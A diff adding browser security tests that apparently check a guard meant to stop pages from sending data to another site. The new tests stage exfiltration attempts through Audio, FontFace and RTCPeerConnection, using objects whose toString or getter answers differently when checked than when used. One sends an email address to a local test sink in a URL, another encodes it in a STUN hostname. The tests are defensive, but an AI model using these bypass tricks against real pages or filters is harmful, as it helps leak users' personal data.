@@ -135,3 +135,33 @@ describe('a page whose arguments convert differently when the guard judges them 
     expect((await sink.received(800)).map((record) => record.method), 'only the handshake made before the task').to.deep.equal(['WEBSOCKET']);
   });
 });
+
+describe('loaders given an address by a call, whose arguments convert differently the second time', function () {
+  this.timeout(20_000);
+
+  it('new Audio of an address object whose toString changes', async () => {
+    await attack({ page, setup: onSave(() => void new Audio(shifty('/sound.mp3') as never)) });
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+  });
+
+  it("new FontFace whose source is an object (not bytes), converted to text by the browser", async () => {
+    await attack({ page, setup: onSave(() => new FontFace('brand', { toString: () => `url(${sink.url('/font.woff2?email=ada@example.com')})` } as never).load()) });
+    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+  });
+
+  it('a peer connection whose iceServers getter answers none when judged and the sink after', async function () {
+    // WebKit's test build has no WebRTC.
+    if (!('RTCPeerConnection' in window)) this.skip();
+    let servers = -1;
+    await attack({ page, setup: onSave(() => {
+      let read = 0;
+      const config = { get iceServers() {
+        return read++ ? [{ urls: `stun:ada-example-com.sink.localhost:${new URL(sink.origin).port}` }] : [];
+      } };
+      const peer = new RTCPeerConnection(config);
+      servers = peer.getConfiguration().iceServers?.length ?? 0;
+      peer.close();
+    }) });
+    expect(servers, 'ICE servers the browser was given').to.be.oneOf([-1, 0]);
+  });
+});
